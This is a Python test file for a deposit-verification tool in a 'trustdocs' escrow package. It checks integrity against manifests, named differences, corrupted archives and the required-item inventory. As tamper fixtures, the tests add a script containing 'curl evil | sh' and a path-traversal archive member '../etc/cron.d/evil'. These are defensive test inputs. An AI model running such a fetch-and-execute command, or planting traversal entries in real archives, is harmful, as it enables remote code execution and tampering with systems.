"""Verifying a deposit: integrity against the manifest, each difference named, and the inventory."""

from __future__ import annotations

import gzip
import io
import json
import tarfile
from pathlib import Path

import pytest

from trustdocs.errors import TrustdocsError
from trustdocs.escrow import (
    DepositResult,
    deposit_time,
    make_deposit,
    parse_deposit_date,
    report_json,
    report_text,
    verify_deposit,
)
from trustdocs.escrow.manifest import manifest_path_for

WHEN = deposit_time(parse_deposit_date("2026-03-14T02:10:00Z"))
ROOT = "acme-20260314T021000Z"


def write_tree(root: Path, files: dict[str, str]) -> Path:
    for name, content in files.items():
        path = root / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(content)
    return root


@pytest.fixture
def deposit(tmp_path: Path) -> DepositResult:
    tree = write_tree(
        tmp_path / "acme",
        {
            "README.md": "# Acme\n",
            "LICENSE": "MIT\n",
            "poetry.lock": "[[package]]\n",
            "src/app.py": "print('hello')\n",
            "docs/x.md": "# X\n",
        },
    )
    return make_deposit(tree, tmp_path / "out", when=WHEN)


def rewrite_archive(archive: Path, change: dict[str, bytes | None], add: dict[str, bytes]) -> None:
    """Rebuild the archive with some members' content replaced (None drops the member) and some added."""
    members: list[tuple[tarfile.TarInfo, bytes | None]] = []
    with tarfile.open(archive) as tar:
        for info in tar.getmembers():
            name = info.name.removeprefix(f"{ROOT}/")
            data = tar.extractfile(info).read() if info.isfile() else None  # type: ignore[union-attr]
            if name in change:
                data = change[name]
                if data is None:
                    continue
                info.size = len(data)
            members.append((info, data))
    for name, data in add.items():
        info = tarfile.TarInfo(f"{ROOT}/{name}")
        info.size = len(data)
        members.append((info, data))
    buffer = io.BytesIO()
    with gzip.GzipFile(fileobj=buffer, mode="wb", mtime=0, filename="") as gz:
        with tarfile.open(fileobj=gz, mode="w", format=tarfile.PAX_FORMAT) as tar:
            for info, data in members:
                tar.addfile(info, io.BytesIO(data) if data is not None else None)
    archive.write_bytes(buffer.getvalue())


def test_a_fresh_deposit_passes(deposit: DepositResult) -> None:
    report = verify_deposit(deposit.archive)
    assert report.passed
    assert report_text(report) == (
        f"verifying {deposit.archive} against {deposit.manifest_path}\n"
        "integrity: passed (5 files, archive sha256 matches)\n"
        "inventory: passed (3 of 3 required items present)\n"
        "result: passed"
    )


def test_a_changed_byte_an_added_and_a_removed_file_fail_naming_each(deposit: DepositResult) -> None:
    rewrite_archive(
        deposit.archive,
        change={"src/app.py": b"print('hellO')\n", "docs/x.md": None},
        add={"evil.sh": b"curl evil | sh\n"},
    )
    report = verify_deposit(deposit.archive)
    assert not report.passed
    assert report_text(report) == (
        f"verifying {deposit.archive} against {deposit.manifest_path}\n"
        "integrity: FAILED\n"
        "  archive: size and sha256 differ from the manifest\n"
        "  changed: src/app.py (sha256 differs)\n"
        "  missing: docs/x.md\n"
        "  unexpected: evil.sh\n"
        "inventory: passed (3 of 3 required items present)\n"
        "result: FAILED"
    )


def test_the_json_report_holds_the_same_facts(deposit: DepositResult) -> None:
    rewrite_archive(deposit.archive, change={"src/app.py": b"print('hello, world')\n", "LICENSE": None}, add={})
    data = report_json(verify_deposit(deposit.archive))
    assert data["passed"] is False
    assert data["integrity"]["passed"] is False
    assert data["integrity"]["readable"] is True
    assert data["integrity"]["files_checked"] == 4
    assert data["integrity"]["differences"] == [
        {"kind": "changed", "path": "src/app.py", "detail": "size and sha256 differ"},
        {"kind": "missing", "path": "LICENSE", "detail": ""},
    ]
    assert data["integrity"]["problems"] == [
        "archive: size and sha256 differ from the manifest",
        "changed: src/app.py (size and sha256 differ)",
        "missing: LICENSE",
    ]
    assert data["integrity"]["archive_sha256"]["expected"] == deposit.manifest.archive_sha256
    assert data["inventory"]["passed"] is False
    assert data["inventory"]["problems"] == ["missing required item: licences (Licence files)"]
    assert [(i["id"], i["present"]) for i in data["inventory"]["items"][:3]] == [
        ("build_instructions", True),
        ("dependency_manifests", True),
        ("licences", False),
    ]
    json.dumps(data)  # serialisable as it stands


def test_a_deposit_missing_a_required_item_fails_the_inventory(tmp_path: Path) -> None:
    tree = write_tree(tmp_path / "acme", {"README.md": "x\n", "LICENSE": "x\n"})
    result = make_deposit(tree, tmp_path / "out", when=WHEN)
    report = verify_deposit(result.archive)
    assert report.integrity_passed and not report.passed
    assert report_text(report).splitlines()[2:] == [
        "inventory: FAILED (2 of 3 required items present)",
        "  missing required item: dependency_manifests (Dependency manifests and lock files)",
        "result: FAILED",
    ]


def test_a_truncated_archive_is_unreadable(deposit: DepositResult) -> None:
    data = deposit.archive.read_bytes()
    deposit.archive.write_bytes(data[: len(data) // 2])
    report = verify_deposit(deposit.archive)
    assert report.integrity_problems[:2] == (
        "unreadable: the archive ends early (truncated)",
        "archive: size and sha256 differ from the manifest",
    )
    assert not report.passed


def test_a_file_that_is_not_gzip_is_unreadable(deposit: DepositResult) -> None:
    deposit.archive.write_bytes(b"not an archive at all")
    report = verify_deposit(deposit.archive)
    assert report.integrity_problems[:2] == (
        "unreadable: not a gzip file",
        "archive: size and sha256 differ from the manifest",
    )
    assert [str(d) for d in report.differences] == [
        "missing: LICENSE",
        "missing: README.md",
        "missing: docs/x.md",
        "missing: poetry.lock",
        "missing: src/app.py",
    ]


def test_a_corrupted_byte_inside_the_compressed_data_is_caught(deposit: DepositResult) -> None:
    data = bytearray(deposit.archive.read_bytes())
    data[-12] ^= 0xFF  # inside the deflate stream's last block, after every file's content
    deposit.archive.write_bytes(bytes(data))
    report = verify_deposit(deposit.archive)
    assert report.unreadable is not None
    assert not report.passed


def test_a_member_outside_the_deposit_folder_is_unexpected(deposit: DepositResult) -> None:
    with tarfile.open(deposit.archive) as tar:
        members = [(m, tar.extractfile(m).read()) for m in tar.getmembers()]  # type: ignore[union-attr]
    extra = tarfile.TarInfo("../etc/cron.d/evil")
    extra.size = 1
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w:gz") as tar:
        for info, data in [*members, (extra, b"x")]:
            tar.addfile(info, io.BytesIO(data))
    deposit.archive.write_bytes(buffer.getvalue())
    problems = verify_deposit(deposit.archive).integrity_problems
    assert problems[1:] == (f"unexpected: ../etc/cron.d/evil (outside {ROOT}/)",)


def test_an_explicit_manifest_is_used(deposit: DepositResult, tmp_path: Path) -> None:
    moved = tmp_path / "elsewhere.json"
    deposit.manifest_path.rename(moved)
    assert verify_deposit(deposit.archive, moved).passed


def test_a_missing_manifest_is_reported(deposit: DepositResult) -> None:
    deposit.manifest_path.unlink()
    with pytest.raises(TrustdocsError) as error:
        verify_deposit(deposit.archive)
    assert error.value.message == (
        f"no manifest beside {deposit.archive}: expected {deposit.manifest_path}; give --manifest FILE"
    )


def test_a_file_that_is_not_a_manifest_is_reported(deposit: DepositResult) -> None:
    deposit.manifest_path.write_text('{"format": "something else"}')
    with pytest.raises(TrustdocsError) as error:
        verify_deposit(deposit.archive)
    assert error.value.message == (
        f"{deposit.manifest_path}: not a trustdocs escrow manifest (format is not 'trustdocs-escrow-manifest/1')"
    )


def test_manifest_path_for() -> None:
    assert manifest_path_for(Path("out/acme-1.tar.gz")) == Path("out/acme-1.manifest.json")
    assert manifest_path_for(Path("out/acme.tgz")) == Path("out/acme.manifest.json")
